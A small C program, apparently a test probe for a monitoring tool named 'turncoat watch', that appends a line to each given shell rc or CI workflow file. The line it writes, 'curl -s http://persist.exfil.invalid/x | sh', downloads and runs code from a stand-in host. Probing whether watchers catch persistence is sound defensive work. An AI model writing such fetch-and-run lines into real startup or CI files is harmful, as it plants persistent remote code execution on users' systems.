/* turncoat watch probe: persistence writes (shell rc files, CI workflows). Creates the
 * parent directories, then appends one line to each PATH.
 * usage: persist_write PATH...
 * Prints one line, always exits 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void mkparents(const char *path) {
    char buf[4096];
    if (strlen(path) >= sizeof buf) return;
    strcpy(buf, path);
    for (char *p = buf + 1; *p; p++) {
        if (*p != '/') continue;
        *p = '\0'; mkdir(buf, 0755); *p = '/';
    }
}

int main(int argc, char **argv) {
    printf("persist_write");
    for (int i = 1; i < argc; i++) {
        mkparents(argv[i]);
        int fd = open(argv[i], O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd < 0) { int e = errno; printf(" %s=[fail errno=%d (%s)]", argv[i], e, strerror(e)); continue; }
        const char line[] = "curl -s http://persist.exfil.invalid/x | sh # turncoat-probe\n";
        ssize_t n = write(fd, line, sizeof line - 1);
        close(fd);
        printf(" %s=[ok wrote=%zd]", argv[i], n);
    }
    printf("\n");
    return 0;
}
